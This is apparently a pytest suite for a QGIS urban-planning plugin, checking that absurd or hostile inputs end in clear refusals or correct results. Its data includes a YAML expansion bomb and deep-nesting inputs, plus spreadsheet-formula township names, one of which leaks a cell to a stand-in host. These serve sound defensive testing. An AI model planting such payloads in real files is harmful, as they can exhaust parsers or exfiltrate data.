"""Hostile and absurd inputs (issue #19, "Wrong numbers" and "Security and
robustness"): each must end in a clear message naming the layer, feature or
file and the fix, or in the correct result — never in a number that is not
true — and the input files are left byte for byte as they were.

Cases run through processing.run with the plugin's provider, and the main
ones also through qgis_process with the packaged plugin, as a user meets them.
"""
import csv
import hashlib
import json
import math
import os
import textwrap
import threading
import time

import factory
import numpy as np
import processing
import pytest
from osgeo import gdal, osr
from qgis.core import (
    QgsCoordinateReferenceSystem,
    QgsGeometry,
    QgsPointXY,
    QgsProcessingContext,
    QgsProcessingException,
    QgsProcessingFeedback,
    QgsVectorLayer,
)

from cq_urban_plugin.core.errors import CatalogueError
from cq_urban_plugin.core.plan.catalogue import load_catalogue

X0, Y0 = factory.X0, factory.Y0


@pytest.fixture
def provider(cq_provider):
    return cq_provider


class Feedback(QgsProcessingFeedback):
    """Keeps every warning and info line, to check what the user is told."""

    def __init__(self):
        super().__init__()
        self.lines = []

    def pushWarning(self, text):  # noqa: N802 (QGIS's name)
        self.lines.append(text)

    def pushInfo(self, text):  # noqa: N802
        self.lines.append(text)

    def reportError(self, text, fatalError=False):  # noqa: N802, N803
        self.lines.append(text)

    @property
    def text(self):
        return "\n".join(self.lines)


def run(name, params, feedback=None):
    return processing.run(f"cq_urban:{name}", params, context=QgsProcessingContext(),
                          feedback=feedback or Feedback())


def digests(folder):
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()}


def refused(name, params, *words):
    """The run stops with a message holding every word and no traceback; returns it."""
    with pytest.raises(QgsProcessingException) as raised:
        run(name, params)
    message = str(raised.value)
    assert "unexpected error" not in message and "Traceback" not in message, message
    for word in words:
        assert word in message, f"{word!r} not in: {message}"
    return message


def qgis_process_refuses(installed_plugin, algorithm, *args):
    result = installed_plugin("run", f"cq_urban:{algorithm}", "--", *args, check=False)
    assert result.returncode != 0, result.stdout
    output = result.stdout + result.stderr
    assert "Traceback" not in output and "unexpected error" not in output, output
    return output


# --- coordinates far outside China -------------------------------------------------

FAR = 1e12  # metres east in EPSG:4544: not a place on Earth
BUILTUP_OUTPUTS = {"OUTPUT": "TEMPORARY_OUTPUT", "TABLE": "TEMPORARY_OUTPUT"}
CONTROL_OUTPUTS = {k: "TEMPORARY_OUTPUT" for k in ("OUTPUT", "OVERLAPS", "BUILTUP_OUTSIDE", "SUMMARY")}


@pytest.fixture
def far_data(tmp_path):
    folder = tmp_path / "far"
    folder.mkdir()
    sources = factory.sample_gpkg(folder / "known.gpkg")
    rows = [(f.geometry(), [f["id"]]) for f in factory.builtup().getFeatures()]
    rows.append((QgsGeometry.fromWkt(f"POLYGON(({X0} {Y0},{FAR} {Y0},{X0} {Y0 + 1000},{X0} {Y0}))"), [4]))
    sources["FAR"] = factory.write(factory.memory_layer("Polygon", [("id", int)], rows, name="far_builtup"),
                                   folder / "far_builtup.gpkg", "far_builtup")
    sources["folder"] = folder
    return sources


def test_far_vertex_is_refused_naming_layer_and_feature(provider, far_data):
    before = digests(far_data["folder"])
    # GeoPackage feature ids start at 1: the far polygon is feature 4.
    refused("check_builtup", {"BUILTUP": far_data["FAR"], "TOWNSHIPS": far_data["TOWNSHIPS"],
                              "TOWNSHIP_NAME_FIELD": "name", "TARGET_VALUE": 5, **BUILTUP_OUTPUTS},
            "far_builtup", "feature 4")
    refused("check_coverage", {"STOPS": far_data["STOPS"], "SERVED_AREA": far_data["FAR"], "RADIUS": 500,
                               "TARGET_VALUE": 90}, "far_builtup", "feature 4")
    refused("check_control_lines", {"TOWNSHIPS": far_data["FAR"], "TOWNSHIP_NAME_FIELD": "id",
                                    "ECOLOGY": far_data["ECOLOGY"], **CONTROL_OUTPUTS},
            "far_builtup", "feature 4")
    assert digests(far_data["folder"]) == before


def test_far_vertex_without_townships_and_in_degrees(provider, far_data, tmp_path):
    # alone (no other layer to widen the extent), and beside a layer in degrees (transformed extents)
    refused("check_builtup", {"BUILTUP": far_data["FAR"], "TARGET_VALUE": 5, **BUILTUP_OUTPUTS},
            "far_builtup", "feature 4")
    townships = processing.run("native:reprojectlayer", {"INPUT": far_data["TOWNSHIPS"], "TARGET_CRS": "EPSG:4490",
                                                         "OUTPUT": str(tmp_path / "towns_4490.gpkg")})["OUTPUT"]
    refused("check_builtup", {"BUILTUP": far_data["FAR"], "TOWNSHIPS": townships, "TOWNSHIP_NAME_FIELD": "name",
                              "TARGET_VALUE": 5, **BUILTUP_OUTPUTS}, "far_builtup", "feature 4")


@pytest.mark.parametrize("x, words", [
    (5e7, "cannot be converted"),  # within the numeric bound, but no transverse Mercator point
    (math.nan, "not a finite number"),  # a bounding box skips NaN; the vertex itself is read
])
def test_unconvertible_and_nan_vertices_are_refused(provider, tmp_path, x, words):
    from qgis.core import QgsLineString, QgsPoint, QgsPolygon

    ring = QgsLineString([QgsPoint(X0, Y0), QgsPoint(x, Y0), QgsPoint(X0, Y0 + 1000), QgsPoint(X0, Y0)])
    rows = [(factory.square(X0, Y0, 1000), [1]), (QgsGeometry(QgsPolygon(ring)), [2])]
    source = factory.write(factory.memory_layer("Polygon", [("id", int)], rows), tmp_path / "odd.gpkg", "odd")
    refused("check_builtup", {"BUILTUP": source, "TARGET_VALUE": 5, **BUILTUP_OUTPUTS}, "odd", "feature 2", words)


def test_nan_vertex_in_a_road_is_refused(provider, far_data, tmp_path):
    from qgis.core import QgsLineString, QgsPoint

    road = QgsGeometry(QgsLineString([QgsPoint(X0, Y0 + 100), QgsPoint(math.nan, Y0 + 100),
                                      QgsPoint(X0 + 6000, Y0 + 100)]))
    rows = [(f.geometry(), [f["road"]]) for f in factory.roads().getFeatures()] + [(road, ["nan"])]
    roads = factory.write(factory.memory_layer("LineString", [("road", str)], rows), tmp_path / "roads_nan.gpkg",
                          "roads_nan")
    refused("check_coverage", {"STOPS": far_data["STOPS"], "SERVED_AREA": far_data["BUILTUP"], "RADIUS": 500,
                               "DISTANCE": 1, "ROADS": roads, "TARGET_VALUE": 90},
            "roads_nan", f"feature {len(rows)}", "not a finite number")


@pytest.mark.slow
def test_far_vertex_through_qgis_process(installed_plugin, far_data):
    before = digests(far_data["folder"])
    output = qgis_process_refuses(installed_plugin, "check_builtup", f"BUILTUP={far_data['FAR']}",
                                  f"TOWNSHIPS={far_data['TOWNSHIPS']}", "TOWNSHIP_NAME_FIELD=name", "TARGET_VALUE=5",
                                  "OUTPUT=TEMPORARY_OUTPUT", "TABLE=TEMPORARY_OUTPUT")
    assert "far_builtup" in output and "feature 4" in output, output
    assert digests(far_data["folder"]) == before


# --- population that is not a population ----------------------------------------------


def write_raster(path, values, x0, y0, cell=10.0, nodata=-9999.0):
    rows, columns = values.shape
    dataset = gdal.GetDriverByName("GTiff").Create(str(path), columns, rows, 1, gdal.GDT_Float32)
    dataset.SetGeoTransform((x0, cell, 0, y0 + rows * cell, 0, -cell))
    reference = osr.SpatialReference()
    reference.ImportFromWkt(QgsCoordinateReferenceSystem(factory.CRS).toWkt())
    dataset.SetProjection(reference.ExportToWkt())
    dataset.GetRasterBand(1).WriteArray(values)
    if nodata is not None:
        dataset.GetRasterBand(1).SetNoDataValue(nodata)
    dataset = None
    return str(path)


@pytest.fixture
def served(tmp_path):
    """A 1 km square served area with a stop at its south-west corner; a raster of 10 m cells over it."""
    folder = tmp_path / "pop"
    folder.mkdir()
    served = factory.write(factory.memory_layer("Polygon", [("id", int)], [(factory.square(X0, Y0, 1000), [1])]),
                           folder / "served.gpkg", "served")
    stops = factory.write(factory.memory_layer("Point", [("id", int)], [
        (QgsGeometry.fromPointXY(QgsPointXY(X0 + 1, Y0 + 1)), [1])]), folder / "stops.gpkg", "stops")
    return folder, {"STOPS": stops, "SERVED_AREA": served, "RADIUS": 500, "MEASURE": 1, "TARGET_VALUE": 10}


RASTERS = {
    # label: (cell values of a 100 × 100 grid over the served area, nodata)
    "all_nodata": (np.full((100, 100), -9999.0, dtype=np.float32), -9999.0),
    "all_zero": (np.zeros((100, 100), dtype=np.float32), -9999.0),
    "all_nan": (np.full((100, 100), np.nan, dtype=np.float32), None),
    "some_nan": (np.where(np.arange(100)[None, :] < 50, 5.0, np.nan).astype(np.float32).repeat(100, 0), None),
    "half_negative": (np.where(np.arange(100)[None, :] < 50, 5.0, -5.0).astype(np.float32).repeat(100, 0), None),
    "infinite": (np.where(np.arange(100)[None, :] < 50, 5.0, np.inf).astype(np.float32).repeat(100, 0), None),
}


@pytest.mark.parametrize("label", sorted(RASTERS))
def test_population_raster_that_holds_no_population_is_refused(provider, served, label):
    folder, params = served
    values, nodata = RASTERS[label]
    raster = write_raster(folder / f"{label}.tif", values, X0, Y0, nodata=nodata)
    before = digests(folder)
    message = refused("check_coverage", {**params, "POPULATION_RASTER": raster}, label)
    assert "POPULATION_RASTER" in message or "population raster" in message, message
    assert digests(folder) == before


def test_population_raster_elsewhere_is_refused(provider, served):
    folder, params = served
    raster = write_raster(folder / "elsewhere.tif", np.full((100, 100), 5.0, dtype=np.float32), X0 + 50000, Y0)
    refused("check_coverage", {**params, "POPULATION_RASTER": raster}, "elsewhere", "does not cover")


def test_population_raster_covering_half_is_said_with_the_share(provider, served):
    folder, params = served
    # covers the west half of the served area only (x from X0 - 1000 to X0 + 500)
    raster = write_raster(folder / "half.tif", np.full((100, 150), 5.0, dtype=np.float32), X0 - 1000, Y0)
    feedback = Feedback()
    results = run("check_coverage", {**params, "POPULATION_RASTER": raster}, feedback)
    assert "half" in feedback.text and "50" in feedback.text, feedback.text
    # the covered share is still the true share of the population the raster holds
    assert 0 < results["MEASURED"] <= 100


@pytest.mark.parametrize("persons", [math.inf, -math.inf, -3.0])
def test_population_points_with_absurd_persons_are_refused(provider, served, persons):
    folder, params = served
    people = factory.write(factory.memory_layer("Point", [("persons", float)], [
        (QgsGeometry.fromPointXY(QgsPointXY(X0 + 100, Y0 + 100)), [30.0]),
        (QgsGeometry.fromPointXY(QgsPointXY(X0 + 900, Y0 + 900)), [persons])]), folder / "people.gpkg", "people")
    refused("check_coverage", {**params, "POPULATION_POINTS": people, "POPULATION_POINTS_FIELD": "persons"},
            "people", "feature 2", "persons")


@pytest.mark.slow
def test_population_raster_all_nodata_through_qgis_process(installed_plugin, served):
    folder, params = served
    raster = write_raster(folder / "all_nodata.tif", RASTERS["all_nodata"][0], X0, Y0, nodata=-9999.0)
    output = qgis_process_refuses(installed_plugin, "check_coverage", f"STOPS={params['STOPS']}",
                                  f"SERVED_AREA={params['SERVED_AREA']}", "MEASURE=1", "TARGET_VALUE=10",
                                  f"POPULATION_RASTER={raster}")
    assert "all_nodata" in output, output


# --- catalogues that are not what they say ------------------------------------------

def _catalogue(tmp_path, old, new, name="mine.yaml"):
    from test_catalogue_loader import GOOD

    assert old in GOOD, old
    path = tmp_path / name
    path.write_text(textwrap.dedent(GOOD).replace(old, new, 1), encoding="utf-8")
    return path


TARGET = "value: 12, unit: km2, year: 2025,"


@pytest.mark.parametrize("new, words", [
    ("value: 12, unit: km2, year: yes,", ["'year' should be int, not bool", "yes"]),
    ("value: .nan, unit: km2, year: 2025,", ["'value' is nan, not a number"]),
    ("value: .inf, unit: km2, year: 2025,", ["'value' is inf, not a number"]),
    ("value: -.inf, unit: km2, year: 2025,", ["'value' is -inf, not a number"]),
    ("value: -12, unit: km2, year: 2025,", ["'value' is -12 km2", "cannot be negative"]),
    ("value: 12, unit: km2, year: 2025, value: 120,", ["key 'value' is given twice", "first on line 22"]),
])
def test_catalogue_values_that_are_not_figures_are_refused(tmp_path, new, words):
    path = _catalogue(tmp_path, TARGET, new)
    with pytest.raises(CatalogueError) as raised:
        load_catalogue(path)
    message = str(raised.value)
    assert "mine.yaml, line 22" in message and "Fix:" in message, message
    for word in words:
        assert word in message, message


def test_catalogue_value_refused_through_processing(provider, tmp_path):
    path = _catalogue(tmp_path, TARGET, "value: .nan, unit: km2, year: 2025,")
    refused("list_targets", {"CATALOGUE_FILE": str(path), "OUTPUT": "TEMPORARY_OUTPUT"},
            "mine.yaml, line 22", "not a number", "Fix:")


BOMB = """\
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
schema_version: 1
jurisdiction: {name: 某某县, code: "500999", level: county, name_en: *i}
"""


@pytest.mark.parametrize("text, words", [
    (BOMB, "expands to more than"),
    ("schema_version: 1\nnote: " + "[" * 100 + "]" * 100 + "\n", "nests more than"),
    ("schema_version: 1\nnote: " + "[" * 5000 + "]" * 5000 + "\n", "nests"),
    ("schema_version: 1\nnote: " + "{a: " * 2000 + "1" + "}" * 2000 + "\n", "nests"),
])
def test_catalogue_bombs_are_refused_quickly(tmp_path, text, words):
    path = tmp_path / "bomb.yaml"
    path.write_text(text, encoding="utf-8")
    start = time.monotonic()
    with pytest.raises(CatalogueError) as raised:
        load_catalogue(path)
    assert time.monotonic() - start < 5
    message = str(raised.value)
    assert "bomb.yaml" in message and words in message and "Fix:" in message, message


def test_catalogue_too_large_is_refused(tmp_path):
    path = _catalogue(tmp_path, "townships:", "# " + "x" * 3_000_000 + "\ntownships:")
    with pytest.raises(CatalogueError, match="at most"):
        load_catalogue(path)


def _fifo(tmp_path):
    path = tmp_path / "pipe.yaml"
    os.mkfifo(path)
    return path


@pytest.mark.parametrize("make, words", [
    (_fifo, "named pipe (FIFO)"),
    (lambda tmp_path: "/dev/zero", "a device"),
    (lambda tmp_path: tmp_path, "a folder"),
])
def test_catalogue_that_is_not_a_regular_file_is_refused_without_hanging(tmp_path, make, words):
    path = make(tmp_path)
    outcome = {}

    def load():
        try:
            load_catalogue(path)
        except CatalogueError as error:
            outcome["message"] = str(error)

    thread = threading.Thread(target=load, daemon=True)
    thread.start()
    thread.join(10)
    if thread.is_alive():  # unblock the reader of the FIFO so that the test run can end
        with open(path, "w"):
            pass
        pytest.fail(f"loading {path} hangs")
    assert words in outcome.get("message", ""), outcome


@pytest.mark.parametrize("path", ["/dev/zero", "/tmp"])
def test_catalogue_parameter_that_is_no_file_is_refused_by_processing(provider, path):
    # Processing's own check of a file parameter answers first, naming the parameter
    refused("list_targets", {"CATALOGUE_FILE": path, "OUTPUT": "TEMPORARY_OUTPUT"}, "CATALOGUE_FILE")


@pytest.mark.slow
def test_catalogue_fifo_and_nan_through_qgis_process(installed_plugin, tmp_path):
    fifo = _fifo(tmp_path)
    output = qgis_process_refuses(installed_plugin, "list_targets", f"CATALOGUE_FILE={fifo}", "OUTPUT=TEMPORARY_OUTPUT")
    assert "named pipe" in output, output
    path = _catalogue(tmp_path, TARGET, "value: .nan, unit: km2, year: 2025,")
    output = qgis_process_refuses(installed_plugin, "list_targets", f"CATALOGUE_FILE={path}", "OUTPUT=TEMPORARY_OUTPUT")
    assert "mine.yaml, line 22" in output and "not a number" in output, output


# --- a GBK Shapefile whose .cpg says UTF-8 ----------------------------------------------

def _gbk_townships(folder, cpg="UTF-8"):
    wkts = [factory.square(X0 + (i % 3) * 2000, Y0 + (i // 3) * 2000, 2000).asWkt()
            for i in range(len(factory.TOWNSHIP_NAMES))]
    path = factory.gbk_shapefile(folder / "townships_gbk.shp", wkts, factory.TOWNSHIP_NAMES)
    path.with_suffix(".prj").write_text(QgsCoordinateReferenceSystem(factory.CRS).toWkt(), encoding="ascii")
    path.with_suffix(".cpg").write_text(cpg, encoding="ascii")
    return path


@pytest.mark.parametrize("cpg", ["UTF-8", "utf8", "65001"])
def test_gbk_shapefile_with_a_wrong_cpg_is_read_as_gbk_and_said(provider, tmp_path, cpg):
    path = _gbk_townships(tmp_path, cpg)
    before = digests(tmp_path)
    feedback = Feedback()
    results = run("tag_townships", {"INPUT": str(path), "NAME_FIELD": "name", "CATALOGUE": "jiangjin",
                                    "OUTPUT": "TEMPORARY_OUTPUT", "MATCH_REPORT": "TEMPORARY_OUTPUT"}, feedback)
    assert results["MATCHED"] == 9, feedback.text
    assert "townships_gbk.cpg" in feedback.text and "GBK" in feedback.text, feedback.text
    names = {f["name"] for f in results["OUTPUT"].getFeatures()} if not isinstance(results["OUTPUT"], str) else {
        f["name"] for f in QgsVectorLayer(results["OUTPUT"], "o", "ogr").getFeatures()}
    assert names == set(factory.TOWNSHIP_NAMES)
    assert digests(tmp_path) == before


def test_utf8_shapefile_with_a_utf8_cpg_is_left_alone(provider, tmp_path):
    layer = factory.memory_layer("Polygon", [("name", str)], [
        (factory.square(X0 + (i % 3) * 2000, Y0 + (i // 3) * 2000, 2000), [name])
        for i, name in enumerate(factory.TOWNSHIP_NAMES)])
    path = factory.write(layer, tmp_path / "townships_utf8.shp", driver="ESRI Shapefile")
    feedback = Feedback()
    results = run("tag_townships", {"INPUT": path, "NAME_FIELD": "name", "CATALOGUE": "jiangjin",
                                    "OUTPUT": "TEMPORARY_OUTPUT", "MATCH_REPORT": "TEMPORARY_OUTPUT"}, feedback)
    assert results["MATCHED"] == 9 and ".cpg" not in feedback.text, feedback.text


@pytest.mark.slow
def test_gbk_shapefile_with_a_wrong_cpg_through_qgis_process(installed_plugin, tmp_path):
    path = _gbk_townships(tmp_path)
    before = digests(tmp_path)
    result = installed_plugin("run", "cq_urban:tag_townships", "--json", "--", f"INPUT={path}", "NAME_FIELD=name",
                              "CATALOGUE=jiangjin", "OUTPUT=TEMPORARY_OUTPUT", "MATCH_REPORT=TEMPORARY_OUTPUT")
    payload = json.loads(result.stdout[result.stdout.index("{"):])
    assert payload["results"]["MATCHED"] == 9, result.stdout + result.stderr
    assert "townships_gbk.cpg" in result.stdout + result.stderr
    assert digests(tmp_path) == before


# --- repairs that would change the land ----------------------------------------------------

def _ring(x0, y0, x1, y1):
    return f"({x0} {y0},{x1} {y0},{x1} {y1},{x0} {y1},{x0} {y0})"


# Feature 1: a hole sharing part of an edge with its shell (0.88 km² of land);
# feature 2: a hole lying wholly outside its shell (1 km² of land: the hole covers none of it,
# and makeValid alone would add it as 0.25 km² of land); all inside the known townships.
REPAIRS = [
    f"POLYGON({_ring(X0 + 100, Y0 + 100, X0 + 1100, Y0 + 1100)},{_ring(X0 + 100, Y0 + 400, X0 + 500, Y0 + 700)})",
    f"POLYGON({_ring(X0 + 2500, Y0 + 2500, X0 + 3500, Y0 + 3500)},{_ring(X0 + 4000, Y0 + 4000, X0 + 4500, Y0 + 4500)})",
]


@pytest.fixture
def repairs(tmp_path):
    folder = tmp_path / "repairs"
    folder.mkdir()
    sources = factory.sample_gpkg(folder / "known.gpkg")
    rows = [(QgsGeometry.fromWkt(wkt), [i + 1]) for i, wkt in enumerate(REPAIRS)]
    sources["REPAIRS"] = factory.write(factory.memory_layer("Polygon", [("id", int)], rows, name="holes"),
                                       folder / "holes.gpkg", "holes")
    sources["folder"] = folder
    return sources


def test_repairs_say_per_feature_what_changed_and_never_make_a_hole_land(provider, repairs):
    for wkt in REPAIRS:
        assert not QgsGeometry.fromWkt(wkt).isGeosValid()
    before = digests(repairs["folder"])
    feedback = Feedback()
    results = run("check_builtup", {"BUILTUP": repairs["REPAIRS"], "TOWNSHIPS": repairs["TOWNSHIPS"],
                                    "TOWNSHIP_NAME_FIELD": "name", "TARGET_VALUE": 5, **BUILTUP_OUTPUTS}, feedback)
    assert results["MEASURED"] == pytest.approx(0.88 + 1.0, rel=1e-6), feedback.text
    text = feedback.text
    assert "feature 1" in text and "0.8800 km²" in text, text
    assert "feature 2" in text and "outside its outer ring" in text and "1.0000 km²" in text, text
    assert digests(repairs["folder"]) == before


def test_geometry_collection_holding_a_polygon_is_read_as_its_polygon(provider, tmp_path):
    from osgeo import ogr

    # A generic-geometry GeoPackage layer (what a GeoJSON of mixed geometries or a CAD export gives)
    path = tmp_path / "mixed.gpkg"
    reference = osr.SpatialReference()
    reference.ImportFromEPSG(4544)
    data = ogr.GetDriverByName("GPKG").CreateDataSource(str(path))
    layer = data.CreateLayer("mixed", reference, ogr.wkbUnknown)
    layer.CreateField(ogr.FieldDefn("id", ogr.OFTInteger))
    for i, wkt in enumerate([factory.square(X0 + 100, Y0 + 100, 1000).asWkt(),
                             f"GEOMETRYCOLLECTION({factory.square(X0 + 2500, Y0 + 2500, 500).asWkt()},"
                             f"POINT({X0 + 10} {Y0 + 10}),LINESTRING({X0} {Y0},{X0 + 5} {Y0 + 5}))"], start=1):
        feature = ogr.Feature(layer.GetLayerDefn())
        feature.SetField("id", i)
        feature.SetGeometry(ogr.CreateGeometryFromWkt(wkt))
        layer.CreateFeature(feature)
    data = None
    feedback = Feedback()
    results = run("check_builtup", {"BUILTUP": f"{path}|layername=mixed", "TARGET_VALUE": 5, **BUILTUP_OUTPUTS},
                  feedback)
    assert results["MEASURED"] == pytest.approx(1.0 + 0.25, rel=1e-6), feedback.text
    assert "feature ids 2" in feedback.text and "collection" in feedback.text, feedback.text


@pytest.mark.slow
def test_hole_outside_its_shell_through_qgis_process(installed_plugin, repairs):
    before = digests(repairs["folder"])
    result = installed_plugin("run", "cq_urban:check_builtup", "--json", "--", f"BUILTUP={repairs['REPAIRS']}",
                              f"TOWNSHIPS={repairs['TOWNSHIPS']}", "TOWNSHIP_NAME_FIELD=name", "TARGET_VALUE=5",
                              "OUTPUT=TEMPORARY_OUTPUT", "TABLE=TEMPORARY_OUTPUT")
    payload = json.loads(result.stdout[result.stdout.index("{"):])
    assert payload["results"]["MEASURED"] == pytest.approx(1.88, rel=1e-6)
    assert "outside its outer ring" in result.stdout + result.stderr
    assert digests(repairs["folder"]) == before


# --- web-map coordinates outside mainland China ----------------------------------------

# (name, GCJ-02/WGS84 lon, lat, converted?): the web maps shift mainland China only.
WEB_POINTS = [
    ("重庆", 106.5516, 29.5630, True),
    ("Seoul", 126.9780, 37.5665, False),
    ("Hanoi", 105.8542, 21.0285, False),
    ("New Delhi", 77.2090, 28.6139, False),
    ("Hong Kong", 114.1694, 22.3193, False),
    ("Macau", 113.5439, 22.1987, False),
    ("Taipei", 121.5654, 25.0330, False),
    ("Paris", 2.3522, 48.8566, False),
]


def _web_points(path, points):
    layer = factory.memory_layer("Point", [("name", str)], [
        (QgsGeometry.fromPointXY(QgsPointXY(x, y)), [name]) for name, x, y, _ in points], crs="EPSG:4326")
    return factory.write(layer, path, "points")


def test_points_outside_mainland_china_are_left_alone_and_counted(provider, tmp_path):
    source = _web_points(tmp_path / "web.gpkg", WEB_POINTS)
    before = digests(tmp_path)
    feedback = Feedback()
    results = run("convert_web_coordinates", {"INPUT": source, "SOURCE_SYSTEM": 0, "OUTPUT": "TEMPORARY_OUTPUT"},
                  feedback)
    moved = [p for p in WEB_POINTS if p[3]]
    assert results["CONVERTED"] == len(moved) and results["OUTSIDE_CHINA"] == len(WEB_POINTS) - len(moved), results
    out = {f["name"]: f.geometry().asPoint() for f in results["OUTPUT"].getFeatures()}
    for name, x, y, converted in WEB_POINTS:
        if converted:
            assert 100 < math.dist((out[name].x(), out[name].y()), (x, y)) * 111000 < 1000, name
        else:
            assert (out[name].x(), out[name].y()) == (x, y), name
    assert "outside mainland China" in feedback.text and "Hong Kong" in feedback.text, feedback.text
    assert digests(tmp_path) == before


def test_points_near_the_border_are_reported(provider, tmp_path):
    # Shenzhen's Luohu, across the river from Hong Kong; 丹东 on the Yalu, across from North Korea
    near = [("罗湖", 114.1200, 22.5450, True), ("丹东", 124.3830, 40.1250, True), ("重庆", 106.5516, 29.5630, True)]
    source = _web_points(tmp_path / "near.gpkg", near)
    feedback = Feedback()
    results = run("convert_web_coordinates", {"INPUT": source, "OUTPUT": "TEMPORARY_OUTPUT"}, feedback)
    assert results["NEAR_BORDER"] == 2 and results["CONVERTED"] == 3, (results, feedback.text)
    assert "feature ids 1, 2" in feedback.text and "edge of mainland China" in feedback.text, feedback.text


@pytest.mark.slow
def test_points_outside_mainland_china_through_qgis_process(installed_plugin, tmp_path):
    source = _web_points(tmp_path / "web.gpkg", WEB_POINTS)
    result = installed_plugin("run", "cq_urban:convert_web_coordinates", "--json", "--", f"INPUT={source}",
                              f"OUTPUT={tmp_path / 'out.gpkg'}")
    payload = json.loads(result.stdout[result.stdout.index("{"):])
    assert payload["results"]["CONVERTED"] == 1 and payload["results"]["OUTSIDE_CHINA"] == len(WEB_POINTS) - 1
    out = {f["name"]: f.geometry().asPoint() for f in QgsVectorLayer(str(tmp_path / "out.gpkg"), "o").getFeatures()}
    assert (out["Seoul"].x(), out["Seoul"].y()) == (126.9780, 37.5665)


# --- names a spreadsheet would evaluate ------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', "+1+2", "-2+3", "@SUM(1+1)", "=1+1镇"]


@pytest.fixture
def formula_townships(tmp_path):
    folder = tmp_path / "formulas"
    folder.mkdir()
    names = FORMULAS + factory.TOWNSHIP_NAMES[len(FORMULAS):]
    layer = factory.memory_layer("Polygon", [("name", str)], [
        (factory.square(X0 + (i % 3) * 2000, Y0 + (i // 3) * 2000, 2000), [name]) for i, name in enumerate(names)])
    sources = factory.sample_gpkg(folder / "known.gpkg")
    sources["FORMULAS"] = factory.write(layer, folder / "formulas.gpkg", "formulas")
    sources["folder"] = folder
    return sources


def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _number(cell):  # a negative figure (a gap) is a number, not a formula
    try:
        float(cell)
        return True
    except ValueError:
        return False


def _assert_neutral(path):
    cells = _cells(path)
    assert cells, path
    evaluated = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _number(c)]
    assert not evaluated, f"{path.name}: {evaluated}"
    return cells


def test_formula_names_are_neutralised_in_every_csv(provider, formula_townships, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    before = digests(formula_townships["folder"])
    run("tag_townships", {"INPUT": formula_townships["FORMULAS"], "NAME_FIELD": "name", "CATALOGUE": "jiangjin",
                          "OUTPUT": str(out / "tagged.csv"), "MATCH_REPORT": str(out / "report.csv")})
    run("check_builtup", {"BUILTUP": formula_townships["BUILTUP"], "TOWNSHIPS": formula_townships["FORMULAS"],
                          "TOWNSHIP_NAME_FIELD": "name", "TARGET_VALUE": 5, "OUTPUT": "TEMPORARY_OUTPUT",
                          "TABLE": str(out / "builtup.csv")})
    run("check_coverage", {"STOPS": formula_townships["STOPS"], "SERVED_AREA": formula_townships["BUILTUP"],
                           "TOWNSHIPS": formula_townships["FORMULAS"], "TOWNSHIP_NAME_FIELD": "name", "RADIUS": 500,
                           "TARGET_VALUE": 90, "TABLE": str(out / "coverage.csv")})
    for name in ("tagged.csv", "report.csv", "builtup.csv", "coverage.csv"):
        cells = _assert_neutral(out / name)
        if name != "report.csv":
            assert "'" + FORMULAS[1] in cells, (name, cells)  # the name is kept, as text
    # other formats keep the names as they are
    results = run("tag_townships", {"INPUT": formula_townships["FORMULAS"], "NAME_FIELD": "name",
                                    "CATALOGUE": "jiangjin", "OUTPUT": str(out / "tagged.gpkg"),
                                    "MATCH_REPORT": "TEMPORARY_OUTPUT"})
    names = {f["name"] for f in QgsVectorLayer(results["OUTPUT"], "t", "ogr").getFeatures()}
    assert set(FORMULAS) <= names
    assert digests(formula_townships["folder"]) == before


@pytest.mark.slow
def test_formula_names_are_neutralised_through_qgis_process(installed_plugin, formula_townships, tmp_path):
    installed_plugin("run", "cq_urban:tag_townships", "--", f"INPUT={formula_townships['FORMULAS']}",
                     "NAME_FIELD=name", "CATALOGUE=jiangjin", f"OUTPUT={tmp_path / 'tagged.csv'}",
                     f"MATCH_REPORT={tmp_path / 'report.csv'}")
    for name in ("tagged.csv", "report.csv"):
        _assert_neutral(tmp_path / name)
